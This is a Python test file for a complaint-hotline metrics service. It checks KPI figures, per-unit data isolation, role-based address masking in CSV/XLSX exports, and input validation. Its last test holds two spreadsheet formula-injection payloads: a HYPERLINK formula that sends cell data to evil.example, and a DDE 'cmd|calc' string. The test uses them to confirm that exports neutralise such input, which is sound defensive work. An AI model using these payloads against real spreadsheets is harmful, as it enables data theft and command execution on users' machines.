"""Metrics' adapters' shared part: GetKpis figures equal the engine's, units see only their own,
exports mask addresses by role, bad input is refused precisely."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from hotline.auth import Principal
from hotline.clock import ManualClock
from hotline.commands import DomainError
from hotline.policy import Role
from services.metrics.kpi import RATES, CaseFacts, KpiPolicy, Period, compute
from services.metrics.simulate import lifecycles
from services.metrics.views import Views, parse_filters, window

TZ = ZoneInfo("Asia/Shanghai")
POLICY = KpiPolicy.load()
MONTH = Period.parse("2026-11", TZ)
NOW = datetime(2026, 11, 29, 12, 0, tzinfo=TZ)
FACTS = list(lifecycles(MONTH, per_day=10, seed=4, as_of=NOW))


class FactsOnly:
    async def facts(self, policy: KpiPolicy) -> list[CaseFacts]:
        return FACTS

    async def items(self) -> tuple[list[Any], list[Any]]:  # no whistles, no 屡办不成 items
        return [], []

    async def records(self) -> list[Any]:  # no 督办 records
        return []


VIEWS = Views(FactsOnly(), POLICY, TZ, ManualClock(NOW))  # type: ignore[arg-type]


async def test_get_kpis_gives_the_engines_figures_by_group() -> None:
    result = await VIEWS.kpis(window(TZ, "2026-11"), ["unit_type"], parse_filters([("lane", ["normal"])]))
    table = compute(FACTS, POLICY, TZ, MONTH.start, MONTH.end, ("unit_type",), {"lane": ["normal"]}, as_of=NOW)
    assert result.total.tickets == table.total.tickets and result.policy_version == POLICY.version
    assert len(result.groups) == len(table.groups)
    for g in result.groups:
        figs = table.groups[(g.key["unit_type"],)]
        assert g.dispatches == figs.dispatches
        assert g.dispatch_share == figs.dispatches / table.total.dispatches
        for r in g.rates:
            want = figs.rate(r.name, POLICY)
            assert (r.has_value, r.denominator) == (want.value is not None, want.denominator)
            assert r.value == float(want.value or 0) and r.title == RATES[r.name]
        assert g.score == float(figs.score(POLICY) or 0)


async def test_a_unit_sees_only_its_own_figures_and_cases() -> None:
    unit = FACTS[0].unit_id
    who = Principal("u1", Role.UNIT, unit_id=unit)
    result = await VIEWS.kpis(window(TZ, "2026-11"), ["unit"], {}, who)
    assert [g.key["unit"] for g in result.groups] == [unit]
    data = await VIEWS.export(window(TZ, "2026-11"), {}, who, "csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1:] and {r[rows[0].index("unit_id")] for r in rows[1:]} == {unit}


async def test_exports_mask_addresses_unless_the_role_handles_cases() -> None:
    def addresses(data: bytes) -> list[str]:
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        return [r[rows[0].index("address")] for r in rows[1:]]

    office = addresses(await VIEWS.export(window(TZ, "2026-11"), {}, Principal("o", Role.OFFICE), "csv"))
    viewer = addresses(await VIEWS.export(window(TZ, "2026-11"), {}, Principal("v", Role.VIEWER), "csv"))
    assert len(office) == len(viewer) > 0
    assert all(any(c.isdigit() for c in a) for a in office)
    assert all(a.endswith("***") and not any(c.isdigit() for c in a) for a in viewer)
    xlsx = await VIEWS.export(window(TZ, "2026-11"), {}, Principal("o", Role.OFFICE), "xlsx")
    assert xlsx[:2] == b"PK"


async def test_an_export_of_a_search_result_carries_only_its_tickets() -> None:
    def tickets(data: bytes) -> set[str]:
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        return {r[rows[0].index("ticket_id")] for r in rows[1:]}

    office = Principal("o", Role.OFFICE)
    every = tickets(await VIEWS.export(window(TZ, "2026-11"), {}, office, "csv"))
    chosen = sorted(every)[:3]
    assert len(every) > 3 and tickets(await VIEWS.export(window(TZ, "2026-11"), {}, office, "csv",
                                                         tickets=chosen)) == set(chosen)


@pytest.mark.parametrize("call", [
    lambda: window(TZ, "2026-13"),
    lambda: window(TZ, "2026-11", "2026-11-01"),
    lambda: window(TZ, "", "2026-11-05", "2026-11-01"),
    lambda: parse_filters([("caller_phone", ["1"])]),
])
def test_bad_windows_and_filters_are_invalid_arguments(call: object) -> None:
    with pytest.raises(DomainError) as err:
        call()  # type: ignore[operator]
    assert err.value.code == "invalid_argument"


async def test_bad_group_by_and_report_periods_are_invalid_arguments() -> None:
    for coro in (VIEWS.kpis(window(TZ), ["caller"], {}), VIEWS.generate("weekly", "2026-11"),
                 VIEWS.generate("daily", "2026-11-01")):
        with pytest.raises(DomainError) as err:
            await coro
        assert err.value.code == "invalid_argument"


async def test_an_exported_formula_from_a_citizen_opens_as_text() -> None:
    """Issue #19: citizen text beginning with = + - @ (or tab/CR) is written as text in CSV and XLSX."""
    import dataclasses

    from openpyxl import load_workbook

    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    assigned = next(f for f in FACTS if f.assigned_at is not None and f.assigned_at >= MONTH.start)
    facts = [dataclasses.replace(assigned, address=evil, category="+1+cmd|' /C calc'!A0")]

    class Evil:
        async def facts(self, policy: KpiPolicy) -> list[CaseFacts]:
            return facts

    views = Views(Evil(), POLICY, TZ, ManualClock(NOW))  # type: ignore[arg-type]
    office = Principal("o", Role.OFFICE)
    book = load_workbook(io.BytesIO(await views.export(window(TZ, "2026-11"), {}, office, "xlsx")))
    sheet = book.active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    address = sheet.cell(2, header.index("address") + 1)
    category = sheet.cell(2, header.index("category") + 1)
    assert address.data_type == "s" and address.value == evil  # text, not a formula
    assert category.data_type == "s" and category.value == "+1+cmd|' /C calc'!A0"
    rows = list(csv.reader(io.StringIO((await views.export(window(TZ, "2026-11"), {}, office, "csv"))
                                       .decode("utf-8-sig"))))
    assert rows[1][rows[0].index("address")] == "'" + evil
    assert rows[1][rows[0].index("category")].startswith("'+")
